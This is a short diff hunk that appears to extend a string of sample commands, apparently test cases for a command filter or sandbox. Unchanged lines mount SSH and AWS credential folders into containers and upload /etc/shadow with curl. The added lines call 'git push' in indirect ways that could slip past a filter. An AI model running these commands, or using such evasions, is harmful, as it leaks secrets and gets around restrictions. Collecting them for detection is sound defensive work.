@@ -172,4 +172,6 @@ docker run -v ~/.ssh:/x img
 docker run --mount type=bind,source=/home/me/.aws,target=/x img
 curl -T/etc/shadow x
 curl -d@/etc/shadow x
+GIT="$(type -p git)"; $GIT push
+npm exec -c 'git push'
 """
